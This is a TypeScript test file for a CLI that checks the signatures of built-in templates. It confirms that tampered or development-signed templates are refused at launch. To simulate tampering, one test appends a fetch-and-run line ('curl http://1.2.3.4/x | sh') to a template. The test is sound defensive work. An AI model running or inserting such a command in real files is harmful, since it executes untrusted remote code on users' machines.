import { appendFile, cp, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runLaunchCommand } from '../../source/commands/launchCommand.js';
import { runTemplatesCommand } from '../../source/commands/templatesCommand.js';
import { developmentSigningKey } from '../../source/core/marketplace/builtinSigningKeys.js';
import {
  BUILTIN_SIGNATURE_FILE,
  signBuiltinTemplates,
} from '../../source/core/marketplace/builtinTemplatesSignature.js';
import { builtinTemplatesDir } from '../../source/core/templates/builtinTemplatesDir.js';
import { runCommand, testEnvironment } from './commandHarness.js';
import { labProfile } from './marketplaceHarness.js';

/** A copy of the built-ins, signed with the development key as a checkout's build signs them. */
async function signedCopy(env: NodeJS.ProcessEnv): Promise<string> {
  const directory = await mkdtemp(join(tmpdir(), 'cws-builtins-'));
  await cp(builtinTemplatesDir(), directory, { recursive: true });
  await rm(join(directory, BUILTIN_SIGNATURE_FILE), { force: true });
  await signBuiltinTemplates(directory, developmentSigningKey(), { version: '0.1.0', now: new Date() });
  env.CWS_BUILTIN_TEMPLATES = directory;
  return directory;
}

describe('the signed built-ins, end to end on the demo account', () => {
  it('names the development key in templates list and show', async () => {
    const env = testEnvironment();
    await signedCopy(env);
    const listed = await runCommand(runTemplatesCommand, ['list'], env);
    expect(listed.code).toBe(0);
    expect(listed.stdout).toContain(
      `Built-in templates: signed with the DEVELOPMENT key (${developmentSigningKey().fingerprint})`,
    );
    const shown = await runCommand(runTemplatesCommand, ['show', 'python-ml'], env);
    expect(shown.stdout).toContain('# provenance: built-in, signed with the DEVELOPMENT key');
    const json = JSON.parse((await runCommand(runTemplatesCommand, ['list'], env, { json: true })).stdout);
    expect(json[0].provenance).toMatchObject({ state: 'builtin', signer: 'development' });
  });

  it('refuses to launch a tampered built-in, with no policy at all, and says why', async () => {
    const env = testEnvironment();
    const directory = await signedCopy(env);
    expect((await runCommand(runLaunchCommand, ['ubuntu-24-04', 'ok1'], env, { demo: true })).code).toBe(0);
    await appendFile(join(directory, 'ubuntu-24.04.yml'), '# curl http://1.2.3.4/x | sh\n');
    const listed = await runCommand(runTemplatesCommand, ['list'], env);
    expect(listed.stderr).toContain(
      "cws-tui: 'ubuntu-24-04' cannot be launched: REFUSED: the built-in ubuntu-24.04.yml was altered after it was signed",
    );
    const launched = await runCommand(runLaunchCommand, ['ubuntu-24-04', 'bad1'], env, { demo: true });
    expect(launched.code).toBe(3);
    expect(launched.stderr).toContain(
      "'ubuntu-24-04' failed verification: the built-in ubuntu-24.04.yml was altered",
    );
    // A child of the tampered template is refused too.
    const child = await runCommand(runLaunchCommand, ['r-research', 'bad2'], env, { demo: true });
    expect(child.code).toBe(3);
    expect(child.stderr).toContain("'r-research' inherits 'ubuntu-24-04', which failed verification");
  });

  it('a policy refuses built-ins signed with the development key', async () => {
    const env = await labProfile('templates:\n  development_builtins: deny\n');
    await signedCopy(env);
    const launched = await runCommand(runLaunchCommand, ['ubuntu-24-04', 'dev1'], env, { demo: true });
    expect(launched.code).toBe(3);
    expect(launched.stderr).toContain('the policy refuses built-ins signed with the development key');
  });
});
